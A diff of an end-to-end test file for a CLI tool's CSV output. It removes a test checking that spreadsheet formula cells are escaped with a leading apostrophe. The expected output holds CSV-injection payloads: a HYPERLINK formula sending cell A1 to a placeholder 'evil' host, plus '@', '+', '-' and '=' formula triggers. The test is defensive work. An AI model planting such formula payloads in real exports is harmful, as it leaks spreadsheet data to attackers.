@@ -39,19 +39,6 @@ describe.concurrent('-o csv: cells stay text', () => {
     expect(JSON.parse(exact.stdout)).toEqual(PETS);
   });
 
-  it('--query … -o csv, piped: the same for the query\'s text cells', async (t) => {
-    const { petctl } = await setupE2e(t, json(200, PETS));
-    const result = await petctl(['--query', '[].{id: id, name: name}', '-o', 'csv', 'pets', 'list']);
-    expect(result.code, result.stderr).toBe(0);
-    expect(result.stdout).toBe(
-      'id,name\n' +
-        `-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"\n` +
-        "3,'-2+3\n4,'@SUM(1+1)\n5,'+1\n6,'\t=1+1\n" +
-        `7,"'\r=1+1"\n` +
-        '8,Rex\n',
-    );
-  });
-
   it('on a terminal too (tmux): the quote is there, before the visible escape of a CR', async (t) => {
     const { server, key, configDir } = await setupE2e(t, json(200, PETS));
     const tty = openTerminal(t, ['--base-url', server.baseUrl, '-o', 'csv', 'pets', 'list'], { PETCTL_CONFIG_DIR: configDir, PETCTL_API_KEY: key }, { stdoutToTerminal: true, width: 120 });
